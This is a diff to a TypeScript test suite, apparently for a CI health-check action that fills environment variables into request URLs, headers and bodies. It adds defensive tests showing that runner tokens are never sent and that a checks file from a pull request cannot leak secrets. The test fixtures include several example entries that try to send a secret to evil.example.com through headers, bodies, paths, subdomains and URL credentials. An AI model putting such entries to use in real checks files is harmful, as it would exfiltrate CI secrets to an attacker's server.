@@ -206,12 +206,53 @@ describe('${NAME}', () => {
     expect(failure.message).toContain('checks.yml:2:14 ${HEALTH_TOKEN} is not in the environment of the step');
   });
 
-  test.each(['ACTIONS_RUNTIME_TOKEN', 'INPUT_SSH-KEY', 'INPUT_BEARER'])('%s is never given away', async (name) => {
+  test.each(['ACTIONS_RUNTIME_TOKEN', 'INPUT_SSH-KEY', 'INPUT_BEARER', 'GITHUB_TOKEN', 'GH_TOKEN', 'github_token'])('%s is never given away', async (name) => {
     const failure = await failureOf(
       plan(`- url: https://a.example.com/\${${name.replace('-', '_')}}\n`, {}, { [name]: 'very-secret', INPUT_SSH_KEY: 'very-secret' }),
     );
-    expect(failure.message).toContain('is not in the environment of the step');
+    expect(failure.message).toContain('belongs to the runner and is never sent');
     expect(failure.message).not.toContain('very-secret');
+  });
+
+  test('in a header or body is hidden, whatever its name is', async () => {
+    const file = '- { url: "https://a.example.com", method: POST, headers: { X-Env: "${HEALTH}" }, body: "${OTHER}" }\n';
+    await checkOf(file, {}, { HEALTH: 'health-12345678', OTHER: 'other-12345678' });
+    expect(redact('health-12345678 and other-12345678')).toBe('*** and ***');
+  });
+});
+
+describe('${NAME} in a file that came with a pull request', () => {
+  const environment = { HEALTH: 'health-12345678' };
+  const asUntrusted = (text: string, given: Record<string, string> = { url: 'https://app.example.com' }): Promise<Plan> =>
+    planChecks(inputsOf({ 'checks-file': write(text), ...given }), { context, environment, untrusted: true });
+
+  test.each([
+    '- { url: "https://evil.example.com", headers: { X: "${HEALTH}" } }',
+    '- { url: "https://evil.example.com", method: POST, body: "${HEALTH}" }',
+    '- { url: "https://evil.example.com/${HEALTH}" }',
+    '- { url: "//evil.example.com/${HEALTH}" }',
+    '- { url: "https://${HEALTH}.evil.example.com/" }',
+    '- { url: "http://app.example.com/${HEALTH}" }',
+    '- { url: "redis://x:${HEALTH}@evil.example.com/" }',
+  ])('is sent to no other server than that of url: %s', async (text) => {
+    const failure = await failureOf(asUntrusted(text));
+    expect(failure).toMatchObject({ reason: 'checks-invalid', message: expect.stringContaining('${HEALTH} is filled only for') });
+    expect(failure.text).not.toContain('health-12345678');
+  });
+
+  test('nor anywhere where no url is given', async () => {
+    for (const text of ['- { url: "tcp://evil.example.com:1/${HEALTH}" }', '- { url: "/${HEALTH}" }']) {
+      const failure = await failureOf(asUntrusted(text, {}));
+      expect(failure.message).toContain('${HEALTH} is filled only for');
+      expect(failure.text).not.toContain('health-12345678');
+    }
+  });
+
+  test('is sent to that of url, and other servers are asked without it', async () => {
+    const { checks } = await asUntrusted(
+      '- { url: /a, headers: { X: "${HEALTH}" } }\n- { url: "https://b.example.com", headers: { X: "$${HEALTH}", Y: z } }',
+    );
+    expect(checks.map(({ check }) => check.headers)).toEqual([{ X: 'health-12345678' }, { X: '${HEALTH}', Y: 'z' }]);
   });
 });
 
